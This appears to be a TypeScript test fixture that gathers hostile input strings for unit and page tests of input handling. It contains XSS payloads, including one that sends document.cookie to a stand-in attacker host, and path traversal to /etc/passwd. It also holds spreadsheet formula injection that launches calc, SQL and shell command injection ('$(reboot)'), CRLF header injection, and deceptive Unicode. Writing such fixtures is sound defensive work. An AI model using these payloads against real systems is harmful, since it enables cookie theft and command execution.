// Text that somebody might put into a field to run a script, to break the
// page, to fool its reader or a spreadsheet. Tests of units and of the page
// share it. No NUL and no half characters: databases refuse them.

/** Each of these tries to show a dialog or to ask another origin. */
const actions = ['alert(1)', "fetch('//evil.example/'+document.cookie)"]

const markup = actions.flatMap((run) => [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `";${run};//`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<math><mtext></table><img src=x onerror="${run}">`,
  `<body onload="${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<a href="javascript:${run}">click</a>`,
  `<form action="javascript:${run}"><button>send</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">`,
  `<div style="position:fixed;inset:0;background:red" onclick="${run}">`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `data:text/html,<script>${run}</script>`,
])

const elements = [
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none!important}</style>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<template><img src=x></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea>',
  '</td></tr></table>',
  '</title></head></html>',
  '<!--',
  '<![CDATA[',
  '<?xml version="1.0"?>',
  '&nbsp;&lt;&amp;&quot;',
  '`${alert(1)}`',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '#{alert(1)}',
]

const addresses = [
  'https://evil.example/?q=1#x',
  '//evil.example/x',
  '\\\\evil.example\\share',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '%2e%2e%2f%3Cscript%3E',
  '/orders?filter=1&range=90d#top',
  'mailto:ada@example.com',
  'https://user:secret@example.com:99999/',
]

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/","click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '－1',
  'a;=1+1',
  '=1;+2;-3;@4',
  '"=1+1"',
  'a,b',
  '"',
  '""","',
  "'",
]

const reversed = [
  '/files/\u202egpj.exe',
  '\u202dabc\u202c',
  '\u2066left\u2069',
  '\u2067right\u2069',
  '\u2068first strong',
  '\u202a\u202b\u202c\u202d\u202e',
  'a\u200fb\u200ec',
  '\u061c123',
  'שלום/orders/123',
  'مرحبا 123 (abc)',
  '/orders/שלום/עולם',
  '١٢٣٤٥٦٧٨٩٠',
]

const invisible = [
  'a\u200bb',
  'a\u200cb\u200dc',
  '\ufeff/orders',
  'a\u00adb',
  'a\u2028b\u2029c',
  'a\u00a0b\u2003c\u3000d',
  'a\u3164b\u115fc',
  'x\u{e0041}\u{e0042}',
  'x\ufe00\ufe0e',
  '\u2060\u2061\u2062',
  '\ue000\uf8ff',
  '\ufffd\ufffc',
  'a\ufffe\uffff',
  '\u034f\u17b4',
]

const controls = [
  ...Array.from({ length: 31 }, (_, i) => `a${String.fromCharCode(i + 1)}b`),
  'a\u007fb',
  'a\u0085b',
  'a\u009b31mb',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\r\nSet-Cookie: a=b',
]

const emoji = [
  '👩\u200d👩\u200d👧\u200d👦',
  '👍🏽👍🏿',
  '❤\ufe0f\u200d🔥',
  '🇩🇪🇫🇷🇩',
  '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  '1\ufe0f\u20e3',
  '🏳\ufe0f\u200d🌈',
  '🤷🏼\u200d♀\ufe0f',
]

const scripts = [
  'Zürich/Größe/naïve',
  '日本語/注文/一覧',
  '한국어/주문',
  'ไทย/คำสั่งซื้อ',
  'हिन्दी/आदेश',
  'தமிழ்/ஆர்டர்',
  'Ελλάδα/παραγγελίες',
  'Русский/заказы',
  'አማርኛ/ትዕዛዝ',
  'ქართული',
  'ᐃᓄᒃᑎᑐᑦ',
  '𝔣𝔯𝔞𝔨𝔱𝔲𝔯 𝟙𝟚𝟛',
  'ﷺ﷽',
  'İstanbul ıI ﬁ ẞ',
  'Z̸a̴l̵g̶o̷',
  `e${'\u0301'.repeat(60)}`,
  '\u0301\u0302x',
  'กำ้้้้้้้้',
]

const long = [
  'x'.repeat(500),
  '長'.repeat(500),
  '﷽'.repeat(200),
  '👩\u200d👧'.repeat(150),
  '/segment'.repeat(62),
  'word '.repeat(100),
  '<b>'.repeat(160),
  'a\u202e'.repeat(240),
  'W'.repeat(255),
  'مرحبا'.repeat(100),
]

const words = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '-0', '1e309', 'true', ' ', '{other}', '/', '\\', '%', '%s%n', '*', '?', '\'; DROP TABLE x; --', '$(reboot)']

export const hostile: readonly string[] = [
  ...markup, ...elements, ...addresses, ...formulas, ...reversed, ...invisible, ...controls, ...emoji, ...scripts, ...long, ...words,
]
